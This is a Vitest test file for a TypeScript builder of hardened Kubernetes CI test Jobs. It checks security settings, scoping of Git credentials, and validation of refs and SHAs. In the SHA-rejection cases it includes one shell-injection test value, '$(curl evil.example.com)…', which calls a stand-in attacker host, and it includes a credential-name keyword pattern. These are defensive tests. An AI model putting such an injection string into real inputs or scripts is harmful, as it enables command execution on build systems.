import { describe, expect, it } from 'vitest';
import type { V1Container } from '@kubernetes/client-node';
import { ManifestError } from './errors.js';
import type { TestJobProps } from './test-job.js';
import { testJob } from './test-job.js';
import { JUNIT_AWK, TEST_WRAPPER_SCRIPT } from './junit-scripts.js';
import { CLONE_SCRIPT, REF_MISMATCH_EXIT_CODE, STEP_SCRIPT, TEST_JOB_CONTAINERS } from './test-job-scripts.js';

const SHA = '0123456789abcdef0123456789abcdef01234567';
const PROPS: TestJobProps = {
  name: 'test-shop-0123456',
  namespace: 'sluice-test',
  labels: { 'sluice.dev/delivery': 'shop-main-0123456' },
  image: 'node:20-alpine',
  installCommands: ['npm ci'],
  testCommands: ['npm test', 'npm run lint'],
  repositoryUrl: 'https://gitlab.example.com/team/shop.git',
  sha: SHA,
  fetchRef: 'refs/heads/main',
  gitCredentialsSecret: 'shop-git-credentials',
  gitCredentialsUrl: 'https://gitlab.example.com',
  cloneImage: 'registry.example.com/tools/git:2.47',
};

const job = testJob(PROPS);
const pod = job.spec?.template.spec;
const containers: V1Container[] = [...(pod?.initContainers ?? []), ...(pod?.containers ?? [])];
const byName = (name: string) => containers.find((c) => c.name === name);

describe('testJob shape', () => {
  it('runs clone, then install, then test', () => {
    expect(pod?.initContainers?.map((c) => c.name)).toEqual(['clone', 'install']);
    expect(pod?.containers.map((c) => c.name)).toEqual(['test']);
    expect(TEST_JOB_CONTAINERS).toEqual({ clone: 'clone', install: 'install', test: 'test' });
  });

  it('omits the install container and its failure rule when there is nothing to install', () => {
    const j = testJob({ ...PROPS, installCommands: [] });
    expect(j.spec?.template.spec?.initContainers?.map((c) => c.name)).toEqual(['clone']);
    expect(JSON.stringify(j.spec?.podFailurePolicy)).not.toContain('install');
  });

  it('passes commands as arguments to a fixed script', () => {
    expect(byName('install')?.command).toEqual(['/bin/sh', '-c', STEP_SCRIPT, 'install', 'npm ci']);
    expect(byName('test')?.command).toEqual(['/bin/sh', '-c', STEP_SCRIPT, 'test', 'npm test', 'npm run lint']);
    expect(byName('test')?.workingDir).toBe('/workspace/src');
  });

  it('writes a summary to the termination message and falls back to logs on error', () => {
    for (const c of containers) {
      expect(c.terminationMessagePath).toBe('/dev/termination-log');
      expect(c.terminationMessagePolicy).toBe('FallbackToLogsOnError');
    }
  });

  it('carries the delivery labels on the Job and its pods', () => {
    expect(job.metadata?.labels).toMatchObject({ 'sluice.dev/delivery': 'shop-main-0123456', 'app.kubernetes.io/managed-by': 'sluice' });
    expect(job.spec?.template.metadata?.labels).toEqual(job.metadata?.labels);
  });
});

describe('testJob security invariants', () => {
  it('gives the pod no service account token and no service links', () => {
    expect(pod?.automountServiceAccountToken).toBe(false);
    expect(pod?.enableServiceLinks).toBe(false);
  });

  it('runs as a non-root user with RuntimeDefault seccomp', () => {
    expect(pod?.securityContext?.runAsNonRoot).toBe(true);
    expect(pod?.securityContext?.runAsUser).toBeGreaterThan(0);
    expect(pod?.securityContext?.seccompProfile).toEqual({ type: 'RuntimeDefault' });
  });

  it('hardens every container', () => {
    expect(containers).toHaveLength(3);
    for (const c of containers) {
      expect(c.securityContext?.allowPrivilegeEscalation, c.name).toBe(false);
      expect(c.securityContext?.capabilities, c.name).toEqual({ drop: ['ALL'] });
      expect(c.securityContext?.privileged, c.name).toBe(false);
      expect(c.securityContext?.readOnlyRootFilesystem, c.name).toBe(true);
      expect(c.securityContext?.runAsNonRoot, c.name).toBe(true);
      expect(c.securityContext?.seccompProfile, c.name).toEqual({ type: 'RuntimeDefault' });
    }
  });

  it('gives every container writable emptyDirs for workspace, /tmp and HOME', () => {
    const emptyDirs = new Set(pod?.volumes?.filter((v) => v.emptyDir).map((v) => v.name));
    for (const c of containers) {
      const writable = (c.volumeMounts ?? []).filter((m) => emptyDirs.has(m.name) && !m.readOnly).map((m) => m.mountPath);
      const home = c.env?.find((e) => e.name === 'HOME')?.value;
      expect(writable, c.name).toEqual(expect.arrayContaining(['/workspace', '/tmp', home]));
    }
  });

  it('sets cpu and memory requests and limits on every container', () => {
    for (const c of containers) {
      expect(Object.keys(c.resources?.requests ?? {}).sort(), c.name).toEqual(['cpu', 'memory']);
      expect(Object.keys(c.resources?.limits ?? {}).sort(), c.name).toEqual(['cpu', 'memory']);
    }
  });

  it('bounds the Job in time and cleans it up', () => {
    expect(job.spec?.activeDeadlineSeconds).toBe(1800);
    expect(job.spec?.ttlSecondsAfterFinished).toBe(3600);
    expect(job.spec?.backoffLimit).toBe(2);
    expect(pod?.restartPolicy).toBe('Never');
  });

  it('fails the Job on install/test failures and a commit not on its ref, and retries only disruptions', () => {
    expect(job.spec?.podFailurePolicy?.rules).toEqual([
      { action: 'Ignore', onPodConditions: [{ status: 'True', type: 'DisruptionTarget' }] },
      { action: 'FailJob', onExitCodes: { containerName: 'clone', operator: 'In', values: [REF_MISMATCH_EXIT_CODE] } },
      { action: 'FailJob', onExitCodes: { containerName: 'install', operator: 'NotIn', values: [0] } },
      { action: 'FailJob', onExitCodes: { containerName: 'test', operator: 'NotIn', values: [0] } },
    ]);
  });
});

describe('testJob credentials', () => {
  const secretVolumes = pod?.volumes?.filter((v) => v.secret) ?? [];

  it('mounts the Git credentials Secret read-only into clone only', () => {
    expect(secretVolumes.map((v) => v.secret?.secretName)).toEqual(['shop-git-credentials']);
    const name = secretVolumes[0]?.name;
    const mounts = containers.flatMap((c) => (c.volumeMounts ?? []).filter((m) => m.name === name).map((m) => ({ c: c.name, readOnly: m.readOnly })));
    expect(mounts).toEqual([{ c: 'clone', readOnly: true }]);
    expect(secretVolumes[0]?.secret?.defaultMode).toBe(0o440);
  });

  it('never passes a credential through env or arguments', () => {
    for (const c of containers) {
      expect(c.envFrom, c.name).toBeUndefined();
      for (const e of c.env ?? []) {
        expect(e.valueFrom, `${c.name} ${e.name}`).toBeUndefined();
        expect(e.name).not.toMatch(/TOKEN|PASSWORD|SECRET|CREDENTIAL/i);
      }
      expect(JSON.stringify(c.args ?? [])).not.toMatch(/password|token/i);
    }
    expect(byName('clone')?.env?.find((e) => e.name === 'REPO_URL')?.value).toBe(PROPS.repositoryUrl);
  });

  it('scopes the credentials to the Git host: its origin travels as an env value the URL-scoped helper is keyed by', () => {
    const env = Object.fromEntries((byName('clone')?.env ?? []).map((e) => [e.name, e.value]));
    expect(env['GIT_HOST_URL']).toBe('https://gitlab.example.com');
    expect(testJob({ ...PROPS, gitCredentialsUrl: 'https://GitLab.example.com:443/' }).spec?.template.spec?.initContainers?.[0]?.env).toContainEqual({ name: 'GIT_HOST_URL', value: 'https://gitlab.example.com' });
    expect(CLONE_SCRIPT).toContain('credential.$GIT_HOST_URL.helper=');
    expect(CLONE_SCRIPT).not.toMatch(/-c credential\.helper=["']?!/);
  });

  it('without a Git host, mounts no credentials at all', () => {
    const anonymous = testJob({ ...PROPS, gitCredentialsUrl: undefined });
    const spec = anonymous.spec?.template.spec;
    expect(spec?.volumes?.filter((v) => v.secret)).toEqual([]);
    expect(spec?.initContainers?.[0]?.volumeMounts?.map((m) => m.mountPath)).not.toContain('/var/run/sluice/git-credentials');
    expect(spec?.initContainers?.[0]?.env?.map((e) => e.name)).not.toContain('GIT_HOST_URL');
  });

  it.each([
    ['a path', 'https://gitlab.example.com/team'],
    ['credentials', 'https://u:p@gitlab.example.com'],
    ['another scheme', 'ssh://gitlab.example.com'],
    ['a query', 'https://gitlab.example.com?x=1'],
  ])('refuses a Git host URL with %s', (_, url) => {
    expect(() => testJob({ ...PROPS, gitCredentialsUrl: url })).toThrow(/gitCredentialsUrl/);
  });

  it('rejects a repository URL that carries credentials, without echoing them', () => {
    const attempt = () => testJob({ ...PROPS, repositoryUrl: 'https://oauth2:glpat-SECRET@gitlab.example.com/team/shop.git' });
    expect(attempt).toThrow(/contains credentials; remove them and put them in the gitCredentialsSecret/);
    expect(attempt).not.toThrow(/glpat-SECRET/);
    expect(() => testJob({ ...PROPS, repositoryUrl: 'https://gitlab.example.com/a.git?private_token=x' })).toThrow(/query or fragment/);
    expect(() => testJob({ ...PROPS, repositoryUrl: 'ssh://git@gitlab.example.com/a.git' })).toThrow(/use the project's http\(s\) clone URL/);
  });
});

describe('testJob ref handling', () => {
  it('passes the ref the commit must be on as an env value, never in the script', () => {
    const mr = testJob({ ...PROPS, fetchRef: 'refs/merge-requests/12/head' });
    expect(mr.spec?.template.spec?.initContainers?.[0]?.env).toContainEqual({ name: 'FETCH_REF', value: 'refs/merge-requests/12/head' });
    expect(mr.spec?.template.spec?.initContainers?.[0]?.command).toEqual(byName('clone')?.command);
    expect(CLONE_SCRIPT).not.toContain('refs/heads/main');
  });

  it.each([
    ['a short name', 'main'],
    ['a refspec', 'refs/heads/main:refs/heads/x'],
    ['a glob', 'refs/heads/*'],
    ['a forced refspec', '+refs/heads/main'],
    ['a remote ref', 'refs/remotes/origin/main'],
    ['a merge request of another shape', 'refs/merge-requests/1/merge'],
  ])('refuses %s as the ref to fetch', (_, fetchRef) => {
    expect(() => testJob({ ...PROPS, fetchRef })).toThrow(/is not a full branch, tag or merge-request ref/);
  });
});

describe('testJob SHA handling', () => {
  it('never interpolates the SHA into a script; it travels only as an env value', () => {
    const other = testJob({ ...PROPS, sha: 'f'.repeat(40) });
    const scripts = (j: typeof job) => [...(j.spec?.template.spec?.initContainers ?? []), ...(j.spec?.template.spec?.containers ?? [])].map((c) => c.command);
    expect(scripts(other)).toEqual(scripts(job));
    expect(JSON.stringify(job).split(SHA)).toHaveLength(2);
    expect(byName('clone')?.env?.find((e) => e.name === 'SHA')?.value).toBe(SHA);
    expect(CLONE_SCRIPT).toContain('"$SHA"');
  });

  it.each([
    ['short', '0123456'],
    ['uppercase', SHA.toUpperCase()],
    ['injection', '$(curl evil.example.com)0123456789abcdef0123'],
    ['branch', 'main'],
  ])('rejects a %s SHA with a how-to-fix message', (_, sha) => {
    expect(() => testJob({ ...PROPS, sha })).toThrow(/pass the 40 lowercase hex characters of the commit/);
  });
});

describe('testJob input validation', () => {
  const code = (f: () => unknown): string | undefined => {
    try {
      f();
    } catch (e) {
      return e instanceof ManifestError ? e.code : 'not a ManifestError';
    }
    return undefined;
  };

  it('rejects a limit below its request, saying which to change', () => {
    expect(() => testJob({ ...PROPS, resources: { requests: { cpu: '1', memory: '4Gi' }, limits: { cpu: '2', memory: '2Gi' } } })).toThrow(
      'testJob: memory limit "2Gi" is below the request "4Gi"; raise limits.memory or lower requests.memory',
    );
  });

  it('rejects root, unbounded or malformed settings', () => {
    expect(code(() => testJob({ ...PROPS, runAsUser: 0 }))).toBe('InvalidNumber');
    expect(code(() => testJob({ ...PROPS, activeDeadlineSeconds: 0 }))).toBe('InvalidNumber');
    expect(code(() => testJob({ ...PROPS, ttlSecondsAfterFinished: -1 }))).toBe('InvalidNumber');
    expect(code(() => testJob({ ...PROPS, testCommands: [] }))).toBe('InvalidCommand');
    expect(code(() => testJob({ ...PROPS, installCommands: ['  '] }))).toBe('InvalidCommand');
    expect(code(() => testJob({ ...PROPS, name: 'Test_Job' }))).toBe('InvalidName');
    expect(code(() => testJob({ ...PROPS, image: 'node 20' }))).toBe('InvalidImage');
    expect(code(() => testJob({ ...PROPS, resources: { requests: { cpu: 'lots', memory: '1Gi' }, limits: { cpu: '2', memory: '2Gi' } } }))).toBe('InvalidQuantity');
    expect(code(() => testJob({ ...PROPS, labels: { 'app.kubernetes.io/managed-by': 'me' } }))).toBe('InvalidLabel');
  });

  it('is deterministic', () => {
    expect(testJob(PROPS)).toEqual(job);
    expect(JSON.stringify(testJob({ ...PROPS }))).toBe(JSON.stringify(job));
  });
});

describe('testJob JUnit summary', () => {
  const withReport = testJob({ ...PROPS, junitReportPath: 'reports/junit.xml' });
  const test = withReport.spec?.template.spec?.containers.find((c) => c.name === TEST_JOB_CONTAINERS.test);
  const env = Object.fromEntries((test?.env ?? []).map((e) => [e.name, e.value]));

  it('wraps the test step so the report summary follows its result, with the commands still passed as arguments', () => {
    expect(test?.command?.slice(0, 2)).toEqual(['/bin/sh', '-c']);
    expect(test?.command?.[2]).toBe(TEST_WRAPPER_SCRIPT);
    expect(test?.command?.slice(3)).toEqual(['test', 'npm test', 'npm run lint']);
    expect(env).toMatchObject({ SLUICE_STEP_SCRIPT: STEP_SCRIPT, SLUICE_JUNIT_AWK: JUNIT_AWK, SLUICE_JUNIT_REPORT: 'reports/junit.xml' });
  });

  it('leaves the install step and the security settings as they are', () => {
    const install = withReport.spec?.template.spec?.initContainers?.find((c) => c.name === TEST_JOB_CONTAINERS.install);
    expect(install?.command).toEqual(['/bin/sh', '-c', STEP_SCRIPT, 'install', 'npm ci']);
    expect(test?.securityContext).toEqual(byName('test')?.securityContext);
  });
});
